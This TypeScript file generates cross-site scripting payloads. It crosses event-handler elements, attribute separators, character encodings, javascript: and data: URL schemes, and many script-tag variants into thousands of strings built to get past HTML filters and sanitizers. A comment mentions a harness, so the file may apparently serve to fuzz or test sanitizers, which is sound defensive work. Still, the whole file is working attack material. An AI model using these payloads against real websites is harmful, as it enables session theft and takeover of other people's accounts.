/** Something that runs `code` where a browser lets it. Parts are crossed, so a few hundred lines make thousands. */
export type Vector = (code: string) => string;

const cross = <A, B>(first: readonly A[], second: readonly B[], join: (a: A, b: B) => Vector): Vector[] =>
  first.flatMap(a => second.map(b => join(a, b)));
const attributeText = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
const decimal = (text: string): string => [...text].map(c => `&#${c.codePointAt(0)};`).join('');
const hexadecimal = (text: string): string => [...text].map(c => `&#x${c.codePointAt(0)?.toString(16)};`).join('');
const open = (text: string): string => [...text].map(c => `&#0000${c.codePointAt(0)}`).join('');

/** An element, and the event of it that comes by itself, or that the harness makes. */
const HANDLERS: readonly (readonly [start: string, event: string])[] = [
  ['img src=x', 'onerror'],
  ['img src=x srcset=y', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg/', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['input autofocus', 'onfocus'],
  ['input type=image src=x', 'onerror'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video', 'onclick'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['iframe', 'onload'],
  ['iframe src=https://www.youtube.com/embed/a', 'onload'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['marquee', 'onstart'],
  ['math', 'onclick'],
  ['math><mi', 'onclick'],
  ['math><mrow><mo form=prefix', 'onpointerenter'],
  ['math><mtext tabindex=1', 'onfocusin'],
  ['a href=#a', 'onclick'],
  ['p', 'onmouseover'],
  ['p tabindex=1', 'onfocusin'],
  ['div style=animation:x', 'onanimationstart'],
  ['td', 'onpointerenter'],
  ['figure', 'ontransitionend'],
  ['khac-biet', 'onclick'],
  ['x:y', 'onmouseover'],
];
const NAMES: readonly ((name: string) => string)[] = [
  name => name,
  name => name.toUpperCase(),
  name => name.replace(/^on./, text => `oN${text.slice(2).toUpperCase()}`),
];
const SEPARATORS: readonly string[] = [
  ' ',
  '/',
  '\t',
  '\f',
  '\r\n',
  ' / ',
  ' a="',
  " a='b'",
  '"',
  ' \u00a0 ',
  '\0 ',
  ' "\'',
];
const VALUES: readonly ((code: string) => string)[] = [
  code => `="${attributeText(code)}"`,
  code => `='${code}'`,
  code => `=${code}`,
  code => ` =\n "${decimal(code)}"`,
  code => `=${hexadecimal(code)}`,
  code => `="${open(code)}"`,
  code => `=\`${code}\``,
  code => `="javascript:${code}"`,
];
const ENDS: readonly string[] = ['>', '/>', '', ' <', '></p>x'];

/** Elements with handlers, in every way that an attribute can be written. */
function handlers(): Vector[] {
  const written = cross(SEPARATORS, VALUES, (separator, value) => code => `${separator}@${value(code)}`);
  return HANDLERS.flatMap(([start, event], at) =>
    written.map((attribute, form): Vector => {
      const name = NAMES[(at + form) % NAMES.length]?.(event) ?? event;
      const end = ENDS[(at * 7 + form) % ENDS.length] ?? '>';
      return code => `<${start}${attribute(code).replace('@', name)}${end}`;
    }),
  );
}

const SCHEMES: readonly ((code: string) => string)[] = [
  code => `javascript:${code}`,
  code => `JaVaScRiPt:${code}`,
  code => ` \u0001javascript:${code}`,
  code => `java\tscript:${code}`,
  code => `java\nscript\r:${code}`,
  code => `java&#9;scr&#x0A;ipt&colon;${code}`,
  code => `${decimal('javascript')}:${code}`,
  code => `${hexadecimal('javascript:')}${code}`,
  code => `&#x6a&#x61vascript&#58${code}`,
  code => `javascript://a.example/%0a${code}`,
  code => `javascript&NewLine;:${code}//`,
  code => `java\0script:${code}`,
  code => `\u200bjavascript:${code}`,
  code => `jаvascript:${code}`,
  code => `vbscript:${code}`,
  code => `feed:javascript:${code}`,
  code => `view-source:javascript:${code}`,
  code => `data:text/html,<script>${code}</script>`,
  code => `data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString('base64')}`,
  code => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
  code => `data:,${code}`,
  code => `//khac.example/${encodeURIComponent(code)}`,
  code => `http://khac.example/${encodeURIComponent(code)}`,
];
/** Places of an address; `@` stands for it. */
const PLACES: readonly string[] = [
  '<a href="@">x</a>',
  "<a href='@'>x</a>",
  '<a title=x href="@" href="https://a.example/">x</a>',
  '<area href="@">',
  '<map name=m><area href="@" shape=default></map><img usemap=#m src=x>',
  '<form action="@"><input type=submit></form>',
  '<form><button formaction="@">x</button></form>',
  '<form id=f></form><button form=f formaction="@">x</button>',
  '<iframe src="@"></iframe>',
  '<iframe srcdoc="@"></iframe>',
  '<frameset><frame src="@"></frameset>',
  '<embed src="@">',
  '<object data="@"></object>',
  '<object><param name=movie value="@"></object>',
  '<script src="@"></script>',
  '<script type=module src="@"></script>',
  '<svg><script href="@"></script></svg>',
  '<svg><script xlink:href="@" /></svg>',
  '<svg><a xlink:href="@"><text y=9>x</text></a></svg>',
  '<svg><use href="@#a"/></svg>',
  '<svg><animate attributeName=href values="@"/></svg>',
  '<svg><a><set attributeName=href to="@"/><text y=9>x</text></a></svg>',
  '<svg><foreignObject><iframe src="@"/></foreignObject></svg>',
  '<math href="@">x</math>',
  '<math><mi href="@">x</mi></math>',
  '<math xlink:href="@"><mrow xlink:href="@"><mi>x</mi></mrow></math>',
  '<math><mi style="background:url(@)" mathbackground="url(@)" alttext="@">x</mi></math>',
  '<math><mglyph src="@" alt=x></mglyph><mi>x</mi></math>',
  '<math definitionURL="@"><semantics><mi>x</mi><annotation src="@">y</annotation></semantics></math>',
  '<math><maction actiontype=statusline xlink:href="@">x</maction></math>',
  '<base href="@"><a href=x>x</a>',
  '<link rel=stylesheet href="@">',
  '<link rel=import href="@">',
  '<meta http-equiv=refresh content="0;url=@">',
  '<img src="@">',
  '<img srcset="@ 1x">',
  '<picture><source srcset="@"><img src=x></picture>',
  '<img lowsrc="@" dynsrc="@" src=x>',
  '<input type=image src="@">',
  '<video poster="@"></video>',
  '<audio src="@"></audio>',
  '<video><source src="@"></video>',
  '<track src="@">',
  '<table background="@"><td background="@">x</table>',
  '<body background="@">',
  '<q cite="@">x</q>',
  '<del cite="@">x</del>',
  '<p style="background:url(@)">x</p>',
  '<style>@import "@";p{background:url(@)}</style>',
  '<portal src="@"></portal>',
  '<applet code="@" codebase="@"></applet>',
  '<bgsound src="@">',
  '<layer src="@"></layer>',
  '<isindex action="@" type=image>',
  '<menu><menuitem icon="@"></menu>',
  '<a ping="@" href=x>x</a>',
  '<blockquote cite="@">x</blockquote>',
];

const SCRIPTS: readonly Vector[] = [
  code => `<script>${code}</script>`,
  code => `<ScRiPt>${code}</sCrIpT >`,
  code => `<script\n>${code}</script\n>`,
  code => `<script/x>${code}</script/x>`,
  code => `<script x=">">${code}</script>`,
  code => `<script\0>${code}</script>`,
  code => `<scr\0ipt>${code}</scr\0ipt>`,
  code => `<scr<script>ipt>${code}</scr</script>ipt>`,
  code => `<<script>${code}//<</script>`,
  code => `<script>${code}`,
  code => `<script type="text/javascript" async>${code}</script>`,
  code => `<script type=module>${code}</script>`,
  code => `<script src="data:,${code}"></script>`,
  code => `<svg><script>${code}</script></svg>`,
  code => `<svg><script>${decimal(code)}</script></svg>`,
  code => `<svg><script><![CDATA[${code}]]></script></svg>`,
  code => `<math><script>${code}</script></math>`,
  code => `<?xml version="1.0"?><script>${code}</script>`,
  code => `<? ><script>${code}</script>`,
  code => `<!--><script>${code}</script>-->`,
  code => `<!---><script>${code}</script>-->`,
  code => `<!-- --!><script>${code}</script>-->`,
  code => `<!-- a <!-- --><script>${code}</script> -->`,
  code => `<![CDATA[><script>${code}</script>]]>`,
  code => `<!DOCTYPE x [<!ENTITY y "<script>${code}</script>">]>&y;`,
  code => `<!x ><script>${code}</script>`,
  code => `</ x><script>${code}</script>`,
  code => `<script>"</script><script>${code}//"</script>`,
  code => `<script><!--<script>${code}</script>`,
  code => `<p><![if !IE]><script>${code}</script>`,
  code => `&lt;script&gt;${code}&lt;/script&gt;`,
  code => `&amp;lt;script&amp;gt;${code}`,
  code => `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  code => `\u2028<script>${code}</script>`,
  code => `＜script＞${code}＜/script＞`,
];

/** Vectors of HTML: scripts, handlers and addresses. */
export function plainVectors(): readonly Vector[] {
  const addresses = cross(PLACES, SCHEMES, (place, scheme) => code => {
    const address = scheme(code);
    return place.replaceAll('@', () => (place.includes('="@"') ? address.replaceAll('"', '&quot;') : address));
  });
  return [...SCRIPTS, ...handlers(), ...addresses];
}
